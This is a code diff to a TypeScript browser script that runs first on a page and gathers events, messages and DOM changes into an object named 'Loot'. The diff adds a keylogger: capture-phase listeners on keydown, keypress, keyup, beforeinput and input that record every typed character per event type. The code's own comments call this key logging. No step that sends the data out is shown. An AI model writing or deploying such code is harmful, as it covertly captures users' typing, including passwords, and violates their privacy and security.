@@ -10,6 +10,8 @@ export interface Loot {
   roots: ShadowRoot[];
   /** Everything events told. */
   events: string[];
+  /** The letters that events of each type brought, one after the other, as a key logger writes them down. */
+  letters: Record<string, string>;
   /** Everything mutation records told. */
   changes: string[];
   /** Messages posted to this window. */
@@ -18,7 +20,7 @@ export interface Loot {
   reports: string[];
 }
 
-const loot: Loot = { patched: [], roots: [], events: [], changes: [], messages: [], reports: [] };
+const loot: Loot = { patched: [], roots: [], events: [], letters: {}, changes: [], messages: [], reports: [] };
 /** Latest strings kept of each kind. */
 const LIMIT = 20_000;
 function keep(list: string[], text: string): void {
@@ -121,9 +123,19 @@ function eventTold(event: Event): string {
   return [event.type, key, code, typeof data === 'string' ? data : told(data), inputType, ...carried, ...path, value].filter(Boolean).join(' ');
 }
 
+/** Events that bring a letter each. */
+export const LETTERED = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input'] as const;
+
+function writeDown(event: Event): void {
+  const { key, data } = event as Event & { key?: string; data?: unknown };
+  const letter = typeof data === 'string' ? data : key;
+  if (letter?.length === 1) loot.letters[event.type] = (loot.letters[event.type] ?? '') + letter;
+}
+
 /** Starts all of it; once, as the document's first script. */
 export function lieInWait(): Loot {
   for (const type of EVENTS.split(' ')) window.addEventListener(type, (event) => keep(loot.events, eventTold(event)), true);
+  for (const type of LETTERED) window.addEventListener(type, writeDown, true);
   window.addEventListener('message', (event) => keep(loot.messages, `${event.origin} ${told(event.data)}`), true);
   new MutationObserver((records) => {
     for (const record of records)
